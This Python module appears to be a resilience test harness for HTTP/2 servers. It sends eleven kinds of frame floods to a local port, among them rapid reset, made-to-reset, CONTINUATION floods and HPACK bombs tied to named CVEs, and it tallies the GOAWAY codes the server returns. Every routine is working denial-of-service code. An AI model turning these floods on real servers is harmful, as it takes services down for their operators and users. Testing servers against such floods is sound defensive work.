"""Floods of HTTP/2: frames that cost their sender little and would cost a server more (RFC 9113 section 10.5)."""

import socket
import struct
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BLOCK = b"\x82\x86\x84\x41\x09localhost"
POST = b"\x83\x86\x84\x41\x09localhost"
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


SETTINGS, PING = frame(4), frame(6, 0, 0, bytes(8))


def headers(stream, block=BLOCK, flags=END_STREAM | END_HEADERS):
    return frame(1, flags, stream, block)


def flood(port, seconds, first, makes):
    """One connection after the other that sends `first` and then `makes(stream)` again and again until it is ended.

    Counts the connections, the frames and the codes that they were ended with.
    """
    end, codes, connections, frames, longest = time.monotonic() + seconds, Counter(), 0, 0, 0
    while time.monotonic() < end:
        with socket.socket() as connection:
            connection.settimeout(5)
            connection.connect(("127.0.0.1", port))
            connections += 1
            stream, sent, received = 1, 0, b""
            piece = PREFACE + SETTINGS + first
            try:
                while time.monotonic() < end:
                    connection.sendall(piece)
                    piece = b"".join(makes(stream + 2 * n) for n in range(64))
                    stream, sent = stream + 128, sent + 64
                    connection.setblocking(False)
                    try:
                        while chunk := connection.recv(65_536):
                            received += chunk
                        break
                    except BlockingIOError:
                        pass
                    connection.settimeout(5)
                connection.settimeout(5)
                while time.monotonic() < end and (chunk := connection.recv(65_536)):
                    received += chunk
            except OSError:
                pass
            codes[code(received)] += 1
            frames, longest = frames + sent, max(longest, sent)
    return {"connections": connections, "frames": frames, "longest": longest, "codes": dict(codes)}


def code(received):
    """The code of a GOAWAY among the frames, as text; `none` without one."""
    place, found = 0, "none"
    while place + 9 <= len(received):
        length = int.from_bytes(received[place:place + 3])
        if received[place + 3] == 7:
            found = str(int.from_bytes(received[place + 13:place + 17]))
        place += 9 + length
    return found


def rapid_reset(port, seconds):
    """Requests that are taken back at once (CVE-2023-44487)."""
    return flood(port, seconds, b"", lambda stream: headers(stream) + frame(3, 0, stream, struct.pack(">I", 8)))


def made_to_reset(port, seconds):
    """Requests without a target, which the server has to reset by itself (CVE-2025-8671)."""
    return flood(port, seconds, b"", lambda stream: headers(stream, BLOCK[:2]))


def pings(port, seconds):
    return flood(port, seconds, b"", lambda _: PING)


def settings(port, seconds):
    return flood(port, seconds, b"", lambda _: frame(4, 0, 0, b"\0\4\0\1\0\0"))


def continuations(port, seconds):
    """A header block that does not end (CVE-2024-27316 and its like)."""
    return flood(port, seconds, headers(1, flags=END_STREAM), lambda _: frame(9, 0, 1, b"\x00\x01x\x01y"))


def empty_data(port, seconds):
    return flood(port, seconds, headers(1, POST, END_HEADERS), lambda _: frame(0, 0, 1))


def priorities(port, seconds):
    return flood(port, seconds, b"", lambda stream: frame(2, 0, stream, bytes(5)))


def window_updates(port, seconds):
    return flood(port, seconds, b"", lambda _: frame(8, 0, 0, b"\0\0\0\1"))


def hpack_bombs(port, seconds):
    """An entry of the table that is named again and again by a byte."""
    entry = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4_000
    return flood(port, seconds, headers(1, BLOCK + entry), lambda stream: headers(stream + 2, BLOCK + b"\xbe" * 12_000))


def closed_windows(port, seconds):
    """Many requests whose answers may not be sent."""
    return flood(port, seconds, frame(4, 0, 0, b"\0\4\0\0\0\0"), headers)


def large_streams(port, seconds):
    """Many requests on a connection, each with nearly all the content it may have before it is answered."""
    end, opened, closed, left = time.monotonic() + seconds, 0, 0, []
    while time.monotonic() < end and opened < 60:
        connection = socket.create_connection(("127.0.0.1", port), 5)
        opened += 1
        try:
            connection.sendall(PREFACE + SETTINGS)
            for stream in range(1, 81, 2):
                connection.sendall(headers(stream, POST, END_HEADERS) + frame(0, 0, stream, bytes(16_000)) * 14)
                is_closed(connection)
            left.append(connection)
        except OSError:
            closed += 1
    while time.monotonic() < end and left:
        still = [connection for connection in left if not is_closed(connection)]
        closed, left = closed + len(left) - len(still), still
    return {"opened": opened, "closed": closed}


def is_closed(connection):
    """Reads what there is."""
    connection.setblocking(False)
    try:
        while chunk := connection.recv(65_536):
            pass
        return not chunk
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        connection.settimeout(5)


FLOODS = {attack.__name__.replace("_", "-"): attack for attack in (
    rapid_reset, made_to_reset, pings, settings, continuations, empty_data, priorities, window_updates, hpack_bombs,
    closed_windows, large_streams)}
